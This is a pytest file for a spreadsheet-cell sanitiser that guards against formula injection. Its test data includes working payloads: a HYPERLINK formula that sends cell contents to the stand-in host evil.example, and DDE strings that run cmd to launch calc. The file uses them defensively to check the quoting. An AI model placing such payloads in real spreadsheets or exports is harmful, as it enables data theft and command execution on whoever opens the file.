"""What a spreadsheet would run is text in a file of ours, and comes back as it was."""

import csv
import io
import zipfile

import pytest

from outage_response.domain.spreadsheet_cells import quoted, quoted_csv, quoted_xlsx, unquoted

RUN = (
	'=HYPERLINK("http://evil.example/?" & A1,"click")',
	"=1+1",
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"＝1+1",
	"-",
	"+86-139-5555-0001",
)
LEFT = ("", "no power", "-1", "+5", "-2.5", "-2,5", "+86 139 5555 0001", "1=2", "a@b.example", "'tis", "2026-11-29")


@pytest.mark.parametrize("text", RUN)
def test_what_would_be_run_is_quoted_and_comes_back(text):
	assert quoted(text) == f"'{text}"
	assert unquoted(quoted(text)) == text


@pytest.mark.parametrize("text", LEFT)
def test_what_runs_nothing_stays(text):
	assert quoted(text) == text
	assert unquoted(text) == text


@pytest.mark.parametrize("quoting", [csv.QUOTE_ALL, csv.QUOTE_MINIMAL, csv.QUOTE_NONNUMERIC])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|", "^", "]"])
def test_a_file_is_the_same_with_its_cells_quoted(delimiter, quoting):
	rows = [["Sr", "a\nb", f"x{delimiter}y"], *([1, text, 'say "hi"', -5, ""] for text in (*RUN, *LEFT))]
	file = io.StringIO(newline="")
	csv.writer(file, delimiter=delimiter, quoting=quoting).writerows(rows)
	text = quoted_csv(file.getvalue(), delimiter)
	found = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
	assert found == [[quoted(str(cell)) for cell in row] for row in rows]


def test_a_long_cell_is_read_once():
	"""Two million signs, in well under a second: what somebody wrote decides nothing about how long it takes."""
	for text in ('"' * 2_000_001, "=" * 2_000_000, ',"' * 1_000_000):
		quoted_csv(text)


def test_a_formula_of_a_workbook_becomes_the_text_that_was_written():
	formula = '<row><c r="A1" s="1" t="str"><f>1+1</f><v>2</v></c><c r="B1"><v>7</v></c></row>'
	before = io.BytesIO()
	with zipfile.ZipFile(before, "w") as book:
		book.writestr("xl/worksheets/sheet1.xml", formula)
		book.writestr("xl/styles.xml", formula)
	with zipfile.ZipFile(io.BytesIO(quoted_xlsx(before.getvalue()))) as book:
		sheet = book.read("xl/worksheets/sheet1.xml").decode()
		assert "<f>" not in sheet and ">=1+1</t>" in sheet
		assert 'r="A1"' in sheet and 't="str"' not in sheet  # the cell stays where it was, as text
		assert '<c r="B1"><v>7</v></c>' in sheet
		assert book.read("xl/styles.xml").decode() == formula
